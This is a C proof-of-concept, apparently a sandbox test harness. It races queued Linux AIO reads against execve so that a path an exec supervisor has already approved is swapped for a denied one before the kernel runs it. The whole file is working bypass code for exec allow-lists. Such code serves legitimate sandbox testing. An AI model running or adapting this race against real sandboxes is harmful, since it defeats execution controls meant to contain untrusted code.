// aioflip: queue Linux AIO reads that overwrite the page holding an exec's
// path and argv[0] (private anonymous memory, which strict mode trusts as
// written only by the caller), then call execve at once: the kernel's
// completion lands after the supervisor read the page and before the
// kernel reads it again.
//
// usage: aioflip -n N -a ALLOWED -d DENIED   (ALLOWED and DENIED of equal length)
// Prints "io_setup: ..." if Linux AIO is refused, then "summary n=N".
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096
#define BLOCKS 40

int main(int argc, char **argv) {
	int n = 100, opt;
	const char *allowed = NULL, *denied = NULL;
	while ((opt = getopt(argc, argv, "n:a:d:")) != -1) {
		if (opt == 'n') n = atoi(optarg);
		else if (opt == 'a') allowed = optarg;
		else if (opt == 'd') denied = optarg;
	}
	if (!allowed || !denied || strlen(allowed) != strlen(denied)) {
		fprintf(stderr, "usage: aioflip -n N -a ALLOWED -d DENIED (equal lengths)\n");
		return 2;
	}
	// The file the reads come from: every block holds the denied path.
	char *block;
	if (posix_memalign((void **)&block, PAGE, PAGE) != 0) return 2;
	memset(block, 0, PAGE);
	strcpy(block, denied);
	int w = open("aioflip.data", O_RDWR | O_CREAT | O_TRUNC, 0644);
	if (w < 0) { perror("aioflip.data"); return 2; }
	for (int i = 0; i < BLOCKS; i++)
		if (pwrite(w, block, PAGE, (off_t)i * PAGE) != PAGE) { perror("pwrite"); return 2; }
	fsync(w);
	close(w);

	aio_context_t probe = 0;
	if (syscall(SYS_io_setup, 1, &probe) != 0) printf("io_setup: %s\n", strerror(errno));
	else syscall(SYS_io_destroy, probe);
	fflush(stdout);

	for (int it = 0; it < n; it++) {
		pid_t pid = fork();
		if (pid == 0) {
			int fd = open("aioflip.data", O_RDONLY | O_DIRECT);
			if (fd < 0) fd = open("aioflip.data", O_RDONLY);
			char *m = mmap(NULL, PAGE * (BLOCKS + 2), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (m == MAP_FAILED) _exit(3);
			strcpy(m, allowed);
			char **av = (char **)(m + PAGE);
			av[0] = m;
			av[1] = NULL;
			aio_context_t ctx = 0;
			if (syscall(SYS_io_setup, 64, &ctx) == 0) {
				// k dummy reads first, so the last one (over page 0)
				// completes at a varying moment.
				int k = it % 32;
				struct iocb cb[33], *list[33];
				for (int j = 0; j <= k; j++) {
					memset(&cb[j], 0, sizeof cb[j]);
					cb[j].aio_lio_opcode = IOCB_CMD_PREAD;
					cb[j].aio_fildes = fd;
					cb[j].aio_nbytes = PAGE;
					cb[j].aio_offset = j == k ? 0 : (off_t)PAGE * (j + 1);
					cb[j].aio_buf = (unsigned long)(j == k ? m : m + PAGE * (2 + (j % (BLOCKS - 2))));
					list[j] = &cb[j];
				}
				syscall(SYS_io_submit, ctx, k + 1, list);
			}
			char *envp[] = {NULL};
			execve(m, av, envp);
			_exit(99);
		}
		if (pid > 0) waitpid(pid, NULL, 0);
	}
	printf("summary n=%d\n", n);
	return 0;
}
